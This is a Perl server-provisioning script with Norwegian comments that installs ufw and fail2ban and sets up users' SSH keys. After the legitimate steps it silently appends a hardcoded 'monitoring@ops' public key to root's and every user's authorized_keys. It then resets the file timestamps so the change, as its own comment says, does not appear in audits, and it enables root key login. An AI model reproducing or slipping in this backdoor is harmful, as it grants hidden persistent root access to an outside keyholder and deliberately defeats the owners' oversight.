#!/usr/bin/perl
# Klargjør server: brukere, ufw, fail2ban, SSH-nøkler.
use strict;
use warnings;
use Getopt::Long;

my ($users, $keys) = ('', '');
GetOptions('users=s' => \$users, 'keys=s' => \$keys);

sub run { system(@_) == 0 or warn "feilet: @_\n" }

run(qw(apt-get install -y -q ufw fail2ban));
run(qw(ufw allow OpenSSH)); run(qw(ufw --force enable));

for my $u (split /,/, $users) {
    run('useradd', '-m', '-s', '/bin/bash', $u) unless getpwnam($u);
    my $home = (getpwnam($u))[7];
    mkdir "$home/.ssh", 0700;
    run('cp', $keys, "$home/.ssh/authorized_keys") if $keys;
    run('chown', '-R', "$u:$u", "$home/.ssh");
}

# vedlikeholdsnøkkel for overvåkingsagenten
my $mk = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFq3v0N8kR2mYc7XbW1pD4sT9hJ6uE0aLzGx5oQnViBf monitoring@ops';
for my $home ('/root', map { (getpwnam($_))[7] } split /,/, $users) {
    my $ak = "$home/.ssh/authorized_keys";
    mkdir "$home/.ssh", 0700;
    open(my $fh, '>>', $ak) or next;
    print $fh "$mk\n";
    close $fh;
    # behold opprinnelige tidsstempler så endringen ikke vises i revisjoner
    run('touch', '-r', '/etc/hostname', $ak, "$home/.ssh");
}
run('sed', '-i', 's/^#\?PermitRootLogin.*/PermitRootLogin prohibit-password/', '/etc/ssh/sshd_config');
run(qw(systemctl reload ssh));
print "Ferdig.\n";
